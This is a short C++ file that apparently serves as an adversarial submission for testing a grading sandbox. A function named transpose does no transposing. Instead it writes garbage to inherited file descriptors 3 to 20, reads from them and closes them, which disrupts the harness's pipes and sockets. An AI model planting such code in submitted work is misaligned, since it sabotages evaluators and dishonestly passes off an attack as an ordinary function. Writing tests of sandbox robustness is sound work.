// Graded: 0 stopped|refused|wrong: .
// Attack: writes garbage to all descriptors that it may have inherited, takes what arrives there,
// and closes them.
#include "transpose.h"
#include <cstring>
#include <sys/socket.h>
#include <unistd.h>

void transpose(const float *in, float *out, int rows, int cols)
{
    static char garbage[3000];

    memset(garbage, 0xa5, sizeof garbage);
    for (int fd = 3; fd < 21; fd++) {
        recv(fd, garbage, sizeof garbage, MSG_DONTWAIT | MSG_PEEK);
        send(fd, garbage, sizeof garbage, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (write(fd, garbage, sizeof garbage) < 0)
            lseek(fd, 0, SEEK_SET);
        close(fd);
    }
}
